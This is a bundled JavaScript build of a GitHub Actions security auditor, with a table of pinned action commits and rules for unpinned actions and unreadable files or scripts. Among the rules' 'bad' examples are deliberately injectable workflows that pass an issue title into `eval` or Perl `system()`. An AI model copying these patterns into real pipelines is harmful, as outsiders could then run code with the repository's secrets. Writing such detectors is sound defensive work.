c9dc8369bccbc41e0ac887f8fd674f5925d315f7","v4.2.2 32e3c96f29a6532607f638797455e9e98cfc703d","v3.7.3 162edb95b1a57c11bf799b62984a91983395c738"],"mislav/bump-homebrew-formula-action":["v4.2 f865c8b0dbebd6e263cc06782a0e974c61cf12d2","v3.6 56a283fa15557e9abaa4bdb63b8212abc68e655c","v2.4 9d4d820e1d00b99927bd36e67d41fff1cfc8bd07","v1.16 21991dc8f899341b552c9842957677139a340980"],"mlugg/setup-zig":["v2.2.1 d1434d08867e3ee9daa34448df10607b98908d29","v1.2.2 53fc45b17fe98b52f92ee5ea08ff48a85a3e7eb7"],"moonrepo/setup-rust":["v1.3.0 abb2d32350334249b178c401e5ec5836e0cd88d3","v0.6.1 cafffba5d5c8bc38a5120e6e60f3561d541a47cd"],"msys2/setup-msys2":["v2.32.0 66cd2cce69caa17b53920067426061ca1de3a884","v1.1.2 c2511980e5c6b68b0c5fcd589f25a02158dd0c55","v0.2.0 3ac1cab058b04819dcb5bb82082966c898b553ae"],"mxschmitt/action-tmate":["v3.23 c0afd6f790e3a5564914980036ebf83216678101","v2 ece3d66d6d54a01594acd0ee2e79d1bfb2df136d","v1.0.2 b85ae7b45d889eec8b1772f81370970c15b78092"],"ncipollo/release-action":["v1.21.0 339a81892b84b4eeb0f6e744e4574d79d0d9b8dd"],"nick-fields/assert-action":["v4.0.1 0efd6166067d9c59d89c710fab4f79fb066f8985","v3.0.1 9d4e34b06ce426ffbec11d91e220b8a90fd36bdb","v2.0.0 aa0067e01f0f6545c31755d6ca128c5a3a14f6bf","v1.3.1 1e012cc9f1bf73ccc96470b56c8887478c647e8a"],"nick-fields/retry":["v4.0.0 ad984534de44a9489a53aefd81eb77f87c70dc60","v3.0.2 ce71cc2ab81d554ebbe88c79ab5975992d79ba08","v2.9.0 14672906e672a08bd6eeb15720e9ed3ce869cdd4","v1.0.4 39da88d5f7d15a96aed861dbabbe8b7443e3182a"],"nix-community/cache-nix-action":["v7.0.2 7df957e333c1e5da7721f60227dbba6d06080569","v6.1.3 135667ec418502fa5a3598af6fb9eb733888ce6a","v5.2.1 8351fb9f51c580c96c509987ebb99e38aed956ce","v4.2.2 d4323d4df104b026a6aa633fdb11d772146be0bf"],"nttld/setup-ndk":["v1.6.0 ed92fe6cadad69be94a966a7ee3271275e62f779"],"nuget/login":["v1.2.0 8d196754b4036150537f80ac539e15c2f1028841"],"openai/codex-action":["v1.8 e0fdf01220eb9a88167c4898839d273e3f2609d1"],"ossf/scorecard-action":["v2.4.4 2d1146689b8cda280b9bc96326124645441f03bc","v1.1.2 ce330fde6b1a5c9c75b417e7efc510b822a35564","v0.0.2 5f4e3145c8e85f00681e145122bfe721eb0d69a7"],"oven-sh/setup-bun":["v2.2.0 0c5077e51419868618aeaa5fe8019c62421857d6","v1.2.2 f4d14e03ff726c06358e5557344e1da148b56cf7","v0.1.8 29cb413d63919d58ac5b796e5ee4cfe129a3a3b7"],"peaceiris/actions-gh-pages":["v4.1.0 84c30a85c19949d7eee79c4ff27748b70285e453","v3.9.3 373f7f263a76c20808c831209c920827a82a2847","v2.10.1 45b43ab25725682861f953edbb911fe7f402a5b6","v1.1.0 5af287f67782229f46cdda1b94261d38364aa398"],"peaceiris/actions-hugo":["v3.2.1 2752ce1d29631191ea3f27c23495fa06139a5b78","v2.6.0 16361eb4acea8698b220b76c0d4e84e1fd22c61d","v0.58.2 b7618725f988ed77b5c248624ba013030544a909"],"peter-evans/close-issue":["v3.0.2 05dff7ca07116e5707cfb3a3cd4af7bb5e43524c","v2.2.0 1373cadf1f0c96c1420bc000cfba2273ea307fd1","v1.0.3 a700eac5bf2a1c7a8cb6da0c13f93ed96fd53dbe"],"peter-evans/create-or-update-comment":["v5.0.0 e8674b075228eee787fea43ef493e45ece1004c9","v4.0.0 71345be0265236311c031f5c7866368bd1eff043","v3.1.0 23ff15729ef2fc348714a3bb66d2f655ca9066f2","v2.1.1 67dcc547d311b736a8e6c5c236542148a47adc3d"],"peter-evans/create-pull-request":["v8.1.1 5f6978faf089d4d20b00c7766989d076bb2fc7f1","v7.0.11 22a9089034f40e5a961c8808d113e2c98fb63676","v6.1.0 c5a7806660adbe173f04e3e038b0ccdcd758773c","v5.0.3 4e1beaa7521e8b457b572c090b25bd3db56bf1c5"],"peter-evans/dockerhub-description":["v5.0.0 1b9a80c056b620d92cedb9d9b5a223409c68ddfa","v4.0.2 432a30c9e07499fd01da9f8a49f0faf9e0ca5b77","v3.4.2 dc67fad7001ef9e8e3c124cb7a64e16d0a63d864","v2.4.3 616d1b63e806b630b975af3b4fe3304307b20f40"],"peter-evans/enable-pull-request-automerge":["v3.0.0 a660677d5469627102a1c1e11409dd063606628d","v2.5.0 684fed02ccc9b5eefcf7d40b65b3cd44255bd5bc","v1.2.0 21d45e1c52f5d111d2019b5d33f953ed2e735c46"],"peter-evans/find-comment":["v4.0.0 b30e6a3c0ed37e7c023ccd3f1db5c6c0b0c23aad","v3.1.0 3eae4d37986fb5a8592848f6a574fdf654e61f9e","v2.4.0 a54c31d7fa095754bfef525c0c8e5e5674c4b4b1","v1.3.0 d2dae40ed151c634e4189471272b57e76ec19ba8"],"peter-evans/repository-dispatch":["v4.0.1 28959ce8df70de7be546dd1250a005dd32156697","v3.0.0 ff45666b9427631e3450c54a1bcbee4d9ff4d7c0","v2.1.2 bf47d102fdb849e755b0b0023ea3e81a44b6f570","v1.1.3 ce5485de42c9b2622d2ed064be479e8ed65e76f4"],"peter-evans/slash-command-dispatch":["v5.0.2 9bdcd7914ec1b75590b790b844aa3b8eee7c683a","v4.0.0 13bc09769d122a64f75aa5037256f6f2d78be8c4","v3.0.2 f996d7b7aae9059759ac55e978cff76d91853301","v2.3.0 40877f718dce0101edfc7aea2b3800cc192f9ed5"],"pnpm/action-setup":["v4.0.0 fe02b34f77f8bc703788d5817da081398fad5dd2","v3.0.0 a3252b78c470c02df07e9d59298aecedc3ccdd6d","v2.4.1 eae0cfeb286e66ffb5155f1a79b90583a127a68b","v1.2.1 8e1abe543ff1fa17b5d36e08ed01b4a1e4c31eb4"],"pnpm/setup":["v2.0.2 84cb39b217b10273981911c288cd62326dc7c6d2","v1.0.0 5d160c5bc68a09337ad0d5654e237e03253b5879","v0.0.0 7b64e3377bf32cdb756228d95539b1ba2b22aacc"],"pre-commit-ci/lite-action":["v1.1.0 5d6cc0eb514c891a40562a58a8e71576c5c7fb43","v0.0.3 7c2be754e62517533b80bc73ab8060b500fce822"],"pre-commit/action":["v3.0.1 2c7b3805fd2a0fd8c1884dcaebf91fc102a13ecd","v2.0.3 9b88afc9cd57fd75b655d5c71bd38146d07135fe","v1.1.1 0e8fba5d1e9d8c2ebf73076423cb5aedf606e358"],"preactjs/compressed-size-action":["2.9.1 66325aad6443cb7cf89c4bfcd414aea2367cda94","v1 6cd4d74bf28d472327aeebe8e71dbc903a85da7f"],"prefix-dev/setup-pixi":["v0.9.6 5185adfbffb4bd703da3010310260805d89ebb11"],"psf/black":["26.5.1 87928e6d6761a4a6d22250e1fee5601b3998086e","25.12.0 782e5605c86aab56be6f905da10dcd3e463fd9c2","24.10.0 1b2427a2b785cc4aac97c19bb4b9a0de063f9547","23.12.1 ec91a2be3c44d88e1a3960a4937ad6ed3b63464e"],"pulumi/actions":["v7.0.0 8e5e406f4007fca908480587cb9893c07090f58d","v6.6.1 8582a9e8cc630786854029b4e09281acd6794b58","v5.5.1 cd99a7f8865434dd3532b586a26f9ebea596894f","v4.5.1 a3f382e1242b69ab33854c253c3b580f1226348e"],"pyo3/maturin-action":["v1.51.0 e83996d129638aa358a18fbd1dfb82f0b0fb5d3b"],"pypa/cibuildwheel":["v4.2.0 1828c10ab37f080699c7b81cea34097c684a7074","v3.4.1 8d2b08b68458a16aeb24b64e68a09ab1c8e82084","v2.23.4 e5486e0b831d3a4954f271c2a053fbbc0e227d6a","v1.12.0 bf3a5590c9aeb9a7e4ff4025ef7400e0c6ad1248"],"pypa/gh-action-pip-audit":["v1.1.0 1220774d901786e6f652ae159f7b6bc8fea6d266","v0.0.6 f22fd11c6a263f3dc28a193691c819f00454b0f6"],"r-lib/actions":["v2.10.1 e6be4b3706e0f39bc7a4cf4496a5f2c4cb840040","v1.0.2 f5b3dfbf1942ce68283de21bf65cce051e3a2c4d"],"ramsey/composer-install":["1.3.0 a7320a0581dcd0432930c48a0e7ced67e6ec17e8"],"re-actors/alls-green":["v1.2.2 05ac9388f0aebcb5727afa17fcccfecd6f8ec5fe"],"redhat-actions/buildah-build":["v3.0.2 3a51aade9afa17e5c78256bcbe2e1ee08c7b995b","v2.13 7a95fa7ee0f02d552a32753e7414641a04307056","v1 dc9713a0c9fd2f6cbad37fc78e8a64b17edb8a2e","v0.1 79eee840cad9bac646a08634556b2249ebbcb36f"],"redhat-actions/push-to-registry":["v3.0.0 94ade333c38ecc0e60e94785125d9a52ca423b37","v2.8 5ed88d269cf581ea9ef6dd6806d01562096bee9c","v1.2 23eb62f550c1d0ad60bad28a06dd8497aa3a2858","v0.1 65d0a056e084c0ec3f2397b73aaff61251dda04c"],"release-drafter/release-drafter":["v7.7.0 34d80673e067bdc0c24568d3af899c216adcfaa9","v6.4.0 6a93d829887aa2e0748befe2e808c66c0ec6e4c7","v5.25.0 09c613e259eb8d4e7c81c2cb00618eb5fc4575a7","v4.1.0 cbbae74d7ca69a70341f9bf6836c1ed415b412f0"],"release-plz/action":["v0.5.131 2eb1d8bcb770b4c48ccfaad919734b38b51958c9"],"renovatebot/github-action":["v46.2.2 e09d604f8f803bb527bd8321ed5be06c460b8682","v45.0.3 98c8f1b0835e163b9fdfc7c86dff40dadc7162ee","v44.2.6 eaf12548c13069dcc28bb75c4ee4610cdbe400c5","v43.0.20 ea850436a5fe75c0925d583c7a02c60a5865461d"],"repo-sync/github-sync":["v2.3.0 3832fe8e2be32372e1b3970bbae8e7079edeec88","v1.1.5 c80145dbcadee21d5c254b53d9c494eea7742f07"],"returntocorp/semgrep-action":["v1 b057f5718513ece888f6fae5b2c547624f941229","v0.4 b67d6bf84ff6287cb2360a415f7dd0aa7303e73d"],"reviewdog/action-actionlint":["v1.73.0 50842263c20a7c46bd0065b9e624d3c569db061e"],"reviewdog/action-eslint":["v1.34.0 556a3fdaf8b4201d4d74d406013386aa4f7dab96"],"reviewdog/action-hadolint":["v1.53.0 2d0eb7c86a0ddd94eb625485f4cc2730e105edd8"],"reviewdog/action-setup":["v1.5.0 d8a7baabd7f3e8544ee4dbde3ee41d0011c3a93f"],"reviewdog/action-shellcheck":["v1.32.0 4c07458293ac342d477251099501a718ae5ef86e"],"rlespinasse/github-slug-action":["v4.4.1 102b1a064a9b145e56556e22b18b19c624538d94","v3.9.0 2daab132aa3a6e23ea9d409f9946b3bf6468cc77","2.2.0 9d2c65418d6ecbbd3c08e686997b30482e9f4a80","1.2.0 fbf6d7b9c7af4e8d06135dbc7d774e717d788731"],"rtcamp/action-slack-notify":["v2.4.0 33ca3be66c6f378fe1610fd1d5258632dbed5e58","v1.0.0 69872779ce4d61e3688216f6c2ae5333887828f0"],"ruby/setup-ruby":["v1.315.0 0dafeac902942906541bc140009cdbf32665b601"],"rubygems/configure-rubygems-credentials":["v2.1.0 dc5a8d8553e6ee01fc26761a49e99e733d17954a","v1.0.0 bc6dd217f8a4f919d6835fcfefd470ef821f5c44"],"rubygems/release-gem":["v1.0.1 035c7c1c1c14d277318867ced5037926d2395300"],"rui314/setup-mold":["v1 725a8794d15fc7563f59595bd9556495c0564878"],"rust-lang/crates-io-auth-action":["v1.0.5 c6f97d42243bad5fab37ca0427f495c86d5b1a18"],"rustsec/audit-check":["v2.0.0 69366f33c96575abad1ee0dba8212993eecbe998","v1.4.1 dd51754d4e59da7395a4cd9b593f0ff2d61a9b95","v0.1.0 35b7b53b1e25b55642157ac01b4adceb5b9ebef3"],"shivammathur/setup-php":["2.37.2 f3e473d116dcccaddc5834248c87452386958240","1.11.7 28c92ba4eed7710cd14a3bc9b50fea9dbd81b4bb"],"sigstore/cosign-installer":["v4.1.2 6f9f17788090df1f26f669e9d70d6ae9567deba6","v3.10.1 7e8b541eb2e61bf99390e1afd4be13a184e9ebc5","v2.8.1 c85d0e205a72a294fe064f618a87dbac13084086","v1.4.1 3c4b4191199f5c43538b9decf084a8d5a25c3496"],"slackapi/slack-github-action":["v4.0.0 dcb1066f776dd043e64d0e8ba94ca15cc7e1875d","v3.0.5 0d95c9a7becc1e6e297d76df9bc735c44f4cbcbc","v2.1.1 91efab103c0de0a537f72a35f6b8cda0ee76bf0a","v1.27.1 fcfb566f8b0aab22203f066d80ca1d7e4b5d05b3"],"snyk/actions":["0.4.0 b98d498629f1c368650224d6d212bf7dfa89e4bf"],"softprops/action-gh-release":["v3.0.0 b4309332981a82ec1c5618f44dd2e27cc8bfbfda","v2.6.2 3bb12739c298aeb8a4eeaf626c5b8d85266b0e65","v1 de2c0eb89ae2a093876385947365aca7b0e5f844","v0.1.15 de2c0eb89ae2a093876385947365aca7b0e5f844"],"softprops/turnstyle":["v3.3.2 afaccda0f3c0136fb7cb4a734b9b96be03599948","v2.4.0 807f6009e7cee5c2c9faa41ccef03a8bb24b06ab","v1 8db075d65b19bf94e6e8687b504db69938dc3c65","v0.1.5 8db075d65b19bf94e6e8687b504db69938dc3c65"],"sonarsource/sonarcloud-github-action":["v5.0.0 ffc3010689be73b8e5ae0c57ce35968afd7909e8","v4.0.0 02ef91109b2d589e757aefcfb2854c2783fd7b19","v3.1.0 383f7e52eae3ab0510c3cb0e7d9d150bbaeab838","v2.3.0 e44258b109568baa0df60ed515909fc6c72cba92"],"sonarsource/sonarqube-scan-action":["v8.2.1 22918119ff8e1ca75a623e15c8296b6ea4fbe28f","v7.2.1 c7ee0f9df90b7aa20e8dcf9695dcfe2e7da5b4f2","v6.0.0 fd88b7d7ccbaefd23d8f36f73b59db7a3d246602","v5.3.2 2f77a1ec69fb1d595b06f35ab27e97605bdef703"],"stefanzweifel/git-auto-commit-action":["v7.2.0 4a55954c782fc1ea30b9056cd3e7a2b40ca8887d","v6.0.1 778341af668090896ca464160c2def5d1d1a3eb0","v5.2.0 b863ae1933cb653a53c021fe36dbb774e1fb9403","v4.16.0 3ea6ae190baf489ba007f7c92608f33ce20ef04a"],"step-security/changed-files":["v47.0.5 2e07db73e5ccdb319b9a6c7766bd46d39d304bad","v46.0.5 95b56dadb92a30ca9036f16423fd3c088a71ee94","v45.0.1 3dbe17c78367e7d60f00d78ae6781a35be47b4a1"],"step-security/harden-runner":["v2.20.1 b09bb98e06d4d774595224525879c09bc6e98c40","v1.5.0 2e205a28d0e1da00c5f53b161f4067b052c61f34","v0.4.0 dea7bd51ad9ea3da09c16c60ecd5b9de22cb8e92"],"streetsidesoftware/cspell-action":["v9.0.1 e0668cf020899e887ee8ad4d173c31738a79eae8","v8.4.0 de2a73e963e7443969755b648a1008f77033c5b2","v7.2.1 76c6f6d52abd57f4bcab5f3fde1bbd4f19a99eb0","v6.11.1 e464ae97d348eb3beb0c5a6296dc4388ad4484d9"],"styfle/cancel-workflow-action":["0.13.1 d07a454dad7609a92316b57b23c9ccfd4f59af66"],"subosito/flutter-action":["v2.23.0 1a449444c387b1966244ae4d4f8c696479add0b2","v1.5.3 4389e6cbc6cb8a4b18c628ff96ff90be0e926aa8"],"super-linter/super-linter":["v8.7.0 4ce20838b8ab83717e78138c5b3a1407148e0918","v7.4.0 12150456a73e248bdc94d0794898f94e23127c88","v6.9.0 1fa6ba58a88783e9714725cf89ac26d53e80c148","v5.7.2 a8150b40c89574adb5f68bf9502b890a236a06b3"],"svenstaro/upload-release-action":["2.11.5 29e53e917877a24fad85510ded594ab3c9ca12de","1.1.0 14569a2d348419d066e34e5dfa65071ecd30b64b"],"swatinem/rust-cache":["v2.9.2 6323deb102c322ba6fcbdcafc7e3dddab59af2b6","v1.4.0 cb2cf0cc7c5198d3364b9630e2c3d457f160790c"],"taiki-e/create-gh-release-action":["v1.11.0 eba8ea96c86cca8a37f1b56e94b4d13301fba651"],"taiki-e/install-action":["v2.86.5 ba47c86ac325773530516bb756137ac718732518","v1.17.3 9a29ce630c67077a359246f3e4f84941e05f28b5"],"taiki-e/setup-cross-toolchain-action":["v1.41.0 3d9770ce98eb7dbcf378563182a5e8031165f75b"],"taiki-e/upload-rust-binary-action":["v1.30.2 f0d45ae91ee7b8ee928de7a9d04d893a08bcbec6"],"tailscale/github-action":["v4.1.3 780049a30b6ff5c378a9e7b389d15ece7a204888","v3.3.0 6cae46e2d796f265265cfcf628b72a32b4d7cade","v2 4e4c49acaa9818630ce0bd7a564372c17e33fb4d","v1 bf5e14e8ed9e05b947ef49eda83df60cf075d47e"],"thollander/actions-comment-pull-request":["v3.0.1 24bffb9b452ba05a4f3f77933840a6a841d1b32b","v2.5.0 fabd468d3a1a0b97feee5f6b9e499eab0dd903f6","v1.6.0 8a3fad13c20088e9eb0805666b9fe49509d2fec8"],"tibdex/github-app-token":["v2.1.0 3beb63f4bd073e61482598c45c71c1019b59b73a","v1.9.0 32691ba7c9e7063bd457bd8f2a5703138591fa58"],"tj-actions/branch-names":["v9.0.2 5250492686b253f06fa55861556d1027b067aeb5","v8.2.1 dde14ac574a8b9b1cedc59a1cf312788af43d8d8","v7.0.7 6c999acf206f5561e19f46301bb310e9e70d8815","v6.5 2e5354c6733793113f416314375826df030ada23"],"tj-actions/changed-files":["v47.0.6 9426d40962ed5378910ee2e21d5f8c6fcbf2dd96","v46.0.5 ed68ef82c095e0d48ec87eccea555d944a631a4c","v45.0.9 a284dc1814e3fd07f2e34267fc8f81227ed29fb8","v44.5.7 c65cd883420fd2eb864698a825fc4162dd94482c"],"tj-actions/verify-changed-files":["v20.0.4 a1c6acee9df209257a246f2cc6ae8cb6581c1edf","v19.0.0 d774a4c7ebe335445d79c7b44138f56a76058ba0","v18.0.0 eb6d385c0e52fb28e2f6b70e15c835cb3cbfff17","v17.1.0 2acec78834cc690f70b3445712363fc314224127"],"treosh/lighthouse-ci-action":["12.6.2 3e7e23fb74242897f95c0ba9cabad3d0227b9b18","11.4.0 1b0e7c33270fbba31a18a0fbb1de7cc5256b6d39","10.1.0 03becbfc543944dd6e7534f7ff768abb8a296826","9.6.8 2e159d989f91bb9e399801b3e1ad90bcd4749f75"],"trufflesecurity/trufflehog":["v3.97.0 bcfcf73aaf4759d4dadc2783177c245a02792318","2.0.97 3048c6429d80094b42fd44919e3d6768536178ce"],"uraimo/run-on-arch-action":["v3.1.0 f9b26e3a1a408d5fd530d20c17b9f3f4428ff8d9","v2.8.1 5397f9e30a9b62422f302092631c99ae1effcd9e","v1.1.0 7211cade1a670538f5996e568f9ced9238f85406"],"vampire/setup-wsl":["v7.0.0 d1da7f2c0322a5ee4f24975344f67fc0f5baf364","v6.1.0 887f39deb6c0976365e546926fe66f41b77d65ff","v5.0.1 3b46b44374d5d0ae94654c45d114a3ed7a0e07a8","v4.1.1 79d85ead05e70e4ba1e1e83367db6e0ccb89b578"],"vmactions/freebsd-vm":["v1.5.4 d0518f912576ae759075aa00fb9fe27037940271","v0.3.1 9991fc3550abdc19b61d50063c7eeb7713bc498f"],"volta-cli/action":["v5.0.0 615a78f6c83e116339c53b94f3f82b4d6c0b7d18","v4.2.1 5c175f92dea6f48441c436471e6479dbc192e194","v3.0.3 007b1509d3ea9999dbba62ca34f4eb968363bb78","v2.0.3 c608267fd791ed708d7fe035721f8bc2489ece6d"],"wagoid/commitlint-github-action":["v6.2.1 b948419dd99f3fd78a6548d48f94e3df7f6bf3ed","v5.5.1 9763196e10f27aef304c9b8b660d31d97fce0f99","v4.1.15 416045160973f9fff174ac6698412cfe7181c3f3","v3.1.4 baffd3c16c570c0a26bf89be729b81bb796e9bd5"],"webfactory/ssh-agent":["v0.9.1 a6f90b1f127823b31d4d4a8d96047790581349bd"],"xt0rted/slash-command-action":["v2.0.0 bf51f8f5f4ea3d58abc7eca58f77104182b23e88","v1.2.0 865ee04a1dfc8aa2571513eee8e84b5377153511"],"zizmorcore/zizmor-action":["v0.1.1 f52a838cfabf134edcbaa7c8b3677dde20045018"]}}');
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/facts/pins.js
// Commits of the newest releases of popular actions. Written by scripts/facts/actions.mjs.


const pinsSource = { source: action_pins_namespaceObject.sP, date: action_pins_namespaceObject.p6 };
const lines = action_pins_namespaceObject.hm;
/** The release that a ref stood for when the table was written: the newest of `v4` or `v4.4`, or `v4.4.0` itself where it is that. */
function pinOf({ ref, slug }) {
    if (ref === undefined || !Object.hasOwn(lines, slug))
        return undefined;
    const key = `${slug}@${ref}`;
    if (!pins_known.has(key) && pins_known.size < maxKnown)
        pins_known.set(key, pinIn(slug, ref));
    return pins_known.has(key) ? pins_known.get(key) : pinIn(slug, ref);
}
/** The same few are used all over. */
const pins_known = new Map();
const maxKnown = 5000;
function pinIn(slug, ref) {
    const version = (0,facts_version/* versionIn */.I)(ref);
    if (version === undefined)
        return undefined;
    for (const line of lines[slug] ?? []) {
        const [tag = '', commit = ''] = line.split(' ');
        const release = (0,facts_version/* versionIn */.I)(tag);
        if (release !== undefined && version.every((part, index) => part === release[index]))
            return { tag, commit };
    }
    return undefined;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/unpinned-uses.js
// An action or reusable workflow by a name that others can move.







const unpinnedUses = (0,src_rule/* audit */.s)({
    id: 'unpinned-uses',
    severity: 'high',
    confidence: 'high',
    title: 'An action is named by something that others can move',
    why: 'Whoever can push to its repository, or steals a token that can, decides what runs here with this job\u2019s token and secrets.',
    remedy: 'Pin the action to a whole commit id, with the version as comment behind it, and let a bot update both.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.dependencies,
    references: [
        'https://docs.zizmor.sh/audits/#unpinned-uses',
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions',
    ],
    on: ['uses'],
    *check({ uses, owner }, context) {
        const { file, settings } = context;
        const { target } = uses;
        if (target.kind !== 'repository')
            return;
        const policy = settings.pinning(target);
        if (policy === 'any' || (target.ref !== undefined && (0,workflow_uses/* isCommitRef */.ZW)(target.ref)))
            return;
        if (policy === 'ref-pin' && target.ref !== undefined)
            return;
        if (lockedUse(uses, context) === 'locked')
            return;
        const shown = uses.text.slice(0, 200);
        if (isNamedByTag(target)) {
            yield {
                at: uses.scalar.at,
                statement: owner.map.at,
                message: `\`${shown}\` can be moved, and must be named so: its provenance holds only for a release\u2019s tag`,
                severity: 'low',
                persona: 'pedantic',
            };
            return;
        }
        const { severity, possessions } = stakeIn(owner, context.repository);
        const moves = possessions === '' ? '' : `; whoever moves it runs code in this job${possessions}`;
        yield {
            at: uses.scalar.at,
            statement: owner.map.at,
            message: target.ref === undefined
                ? `\`${shown}\` names no commit, tag or branch at all`
                : `\`${shown}\` is not pinned to a commit, which the policy asks for${moves}`,
            severity: unpinned_uses_isOwn(target, settings) ? 'low' : isNear(target, settings) ? lower(severity) : severity,
            fix: () => pinned(uses, file),
        };
    },
    examples: {
        bad: [
            { text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-node@v4\n' },
            { text: 'on: push\njobs:\n  test:\n    uses: example/workflows/.github/workflows/test.yml@main\n' },
        ],
        good: [
            {
                text: 'name: test\non: push\npermissions: {}\njobs:\n  test:\n    name: test\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-node@49933ea5288caeca8642d1e84afbd3f7d6820020 # v4.4.0\n',
            },
        ],
    },
});
/** Whoever moves their tags runs the runner as well. */
const platformOwners = new Set(['actions', 'github']);
/** Another ref of this very repository is moved by those who may push here. */
function unpinned_uses_isOwn({ slug }, { repository }) {
    return slug === repository;
}
/** Of whoever owns this repository, or the machine that it runs on. */
function isNear({ owner }, { repository }) {
    const name = owner.toLowerCase();
    return platformOwners.has(name) || (repository !== undefined && name === repository.split('/', 1)[0]);
}
/**
 * The builders of SLSA read the tag that they were called by, and refuse a commit; a branch or a shortened version they refuse as well.
 * Source: https://github.com/slsa-framework/slsa-github-generator, "Referencing SLSA builders and generators"; read 2026-11.
 */
function isNamedByTag({ slug, path, ref }) {
    return slug === 'slsa-framework/slsa-github-generator' && path.startsWith('.github/workflows/') && /^v\d+\.\d+\.\d+$/.test(ref ?? '');
}
/** The commit that the ref stood for when the table of releases was written, with its version behind it; a person looks at it once. */


;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/index.js
// What runs that others wrote: actions, images, tools, and how firmly it is named.















const supplyChainRules = [
    unpinnedUses,
    actionsLock,
    adhocPackages,
    archivedUses,
    dependabotCooldown,
    dependabotExecution,
    deprecatedRuntime,
    forbidden_uses/* forbiddenUses */.w,
    insecureUrlScheme,
    knownVulnerableActions,
    selfRepository,
    superfluousActions,
    typosquatUses,
    unpinnedImages,
    unpinnedTools,
];

// EXTERNAL MODULE: ./build/bundled/packages/formats/src/workflow/read.js + 3 modules
var workflow_read = __webpack_require__(8772);
// EXTERNAL MODULE: ./build/bundled/packages/formats/src/yaml/nodes.js + 4 modules
var nodes = __webpack_require__(3217);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/syntax/invalid-file.js
// A workflow or action that is no YAML, or no mapping.




const invalid_file_names = {
    dependabot: 'configuration of Dependabot',
    'pre-commit': 'configuration of pre-commit',
    lock: 'lock of actions',
};
/** More of them in one file say nothing new. */
const invalid_file_most = 100;
const invalidFile = (0,src_rule/* audit */.s)({
    id: 'invalid-file',
    severity: 'high',
    confidence: 'high',
    title: 'A file of the pipeline cannot be read',
    why: 'What cannot be read is neither run as it was meant nor audited.',
    remedy: 'Correct the file at the place that is named.',
    controls: ['NIST-800-53-CM-6'],
    risks: risks/* risks */.X.configuration,
    references: ['https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions'],
    on: ['file'],
    *check(document) {
        const refused = (kind, why) => `This is no ${invalid_file_names[kind] ?? kind} that can be read: ${why}`;
        if (document.kind === 'invalid')
            yield {
                at: document.at,
                message: refused(document.as, document.message),
                // Read to its end, and nothing that could run is in it.
                ...(document.isEmpty === true ? { severity: 'low' } : {}),
            };
        for (const key of (0,workflow_read/* repeatedKeys */.fg)(document).slice(0, invalid_file_most))
            yield { at: key.alias ?? key.at, message: refused(document.kind, (0,nodes/* repeatedKey */.m$)(key)) };
    },
    examples: {
        bad: [
            { text: 'on: push\njobs: [\n' },
            { text: 'on: push\non: pull_request\n' },
            { text: 'on: push\njobs:\n  a:\n    uses: ./a.yml\n    uses: ./b.yml\n  a: {}\n' },
        ],
        good: [
            {
                text: 'name: test\non: push\npermissions: {}\njobs:\n  test:\n    name: test\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n',
            },
        ],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/syntax/unreadable-script.js
// A script of a step that is beyond the grammar by which scripts are read here: what is in it was not looked at.








const unreadableScript = (0,src_rule/* audit */.s)({
    id: 'unreadable-script',
    severity: 'high',
    confidence: 'medium',
    title: 'A script of the pipeline cannot be read',
    why: 'A shell runs a script line by line until it meets what it does not understand, and what it ran until then was not audited.',
    remedy: 'Correct the script at the place that is named, write it more simply, or move it to a file of its own.',
    controls: ['NIST-800-53-CM-6'],
    risks: risks/* risks */.X.configuration,
    references: ['https://www.gnu.org/software/bash/manual/bash.html'],
    on: ['script-step'],
    *check(step, context) {
        const { run } = step;
        if (run === undefined)
            return;
        const shell = (0,src_shell/* shellOf */.of)(step);
        if (shell === 'other' && unreadable_script_isOpen(step) && unreadable_script_isGiven(step, context))
            yield {
                at: run.at,
                statement: step.map.at,
                message: 'The script is given what an outsider writes, in a language that is not read here',
            };
        if (shell !== 'bash')
            return;
        const { error } = (0,src_script/* parsedScript */.NN)((0,src_script/* maskedText */.$O)(context.textOf(run).text));
        if (error === undefined)
            return;
        const ofZsh = (0,src_shell/* isZsh */.uf)(step);
        yield {
            at: run.at,
            statement: step.map.at,
            message: `The script${ofZsh ? ' of zsh' : ''} cannot be read to its end: ${error.message}`,
            // What zsh knows beyond other shells is no mistake, but was not looked at either.
            ...(unreadable_script_isOpen(step) && !ofZsh ? {} : { severity: 'low' }),
        };
    },
    examples: {
        bad: [
            {
                text: 'on: issues\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          eval "$TITLE"\n          exit 0\n          "\n',
            },
            (0,example/* stepsExample */.Y6)('- run: |\n    make test\n    fi'),
            {
                text: 'on: issues\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: perl {0}\n        run: system($ENV{TITLE})\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
            },
        ],
        good: [(0,example/* stepsExample */.Y6)('- run: |\n    if true; then\n      make test\n    fi')],
    },
});
/** Whether a variable that a script is given holds a text of an outsider's. */
function unreadable_script_isGiven(step, { repository, file, settings }) {
    const { runs, evaluator } = analysisOf(repository, settings.persona !== 'regular');
    return runsInFile(runs, file.path)
        .filter((run) => run.step === step)
        .some((run) => evaluator.ofVariable('*', run).some(({ source }) => source.text && source.writer === 'outsider'));
}
/** Whether an outsider sets it off with the repository's rights; of an action nobody knows who calls it. */
function unreadable_script_isOpen({ owner }) {
    return (owner.kind !== 'job' || owner.workflow.triggers.some((trigger) => (0,events/* reachOfTrigger */.F1)(trigger) !== 'never' && (0,events.isPrivileged)(trigger.name)));
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/syntax/index.js
// Files that GitHub would not read.


const syntaxRules = [invalidFile, unreadableScript];

